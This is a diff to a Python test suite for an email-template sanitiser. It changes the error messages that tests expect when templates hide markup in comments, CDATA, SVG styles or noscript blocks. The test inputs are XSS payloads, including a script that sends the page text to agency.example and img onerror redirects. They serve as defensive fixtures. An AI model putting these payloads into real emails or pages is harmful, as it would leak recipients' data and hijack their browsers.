@@ -57,7 +57,7 @@ HIDDEN_IN_COMMENTS = [
     ('<!--><script>fetch("https://agency.example/?d=" + document.body.innerText)</script>-->', "<script>"),
     ('<!---><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
     ('<!-- --!><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">-->', "onerror="),
-    ('<![CDATA[><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">]]>', "onerror="),
+    ('<![CDATA[><img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">]]>', "<![CDATA["),
 ]
 
 
@@ -227,7 +227,7 @@ def test_a_template_cannot_hide_markup_in_an_svgs_style(project: Path) -> None:
     release = _agency_release(project, svg)
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
-    assert "HTML inside an SVG's <style> is not allowed in an email template" in said(result), result.output
+    assert "<img> inside <style> is not allowed in an email template" in said(result), result.output  # review 24k's rule
     assert not (project / "out" / "pitch.html").exists()
     logo = '<svg width="10" height="10"><defs><style>.cls-1{fill:#f5a623}</style></defs><rect class="cls-1" width="10" height="10"/></svg>'
     (project / "agency" / "kit.html.j2").write_text(
@@ -246,7 +246,7 @@ def test_a_template_cannot_end_a_noscript_inside_its_css(project: Path) -> None:
     release = _agency_release(project, f"<noscript><style>{css}</style></noscript>")
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
-    assert "HTML inside a <noscript>'s <style> is not allowed in an email template" in said(result), result.output
+    assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole
     assert not (project / "out" / "pitch.html").exists()
 
 
@@ -256,7 +256,7 @@ def test_a_template_cannot_end_a_noscript_inside_a_comment(project: Path) -> Non
     extra = '<noscript><!--[if mso]></noscript><img src="https://agency.example/none.png" onerror="alert(1)"><![endif]--></noscript>'
     result = mailer("preview", str(_agency_release(project, extra)), "-o", "out")
     assert result.exit_code == 1, result.output
-    assert "a comment ending a <noscript> early is not allowed in an email template" in said(result), result.output
+    assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole
 
 
 # -- 8. the way offered for a day-first date was itself refused ------------------------------------------
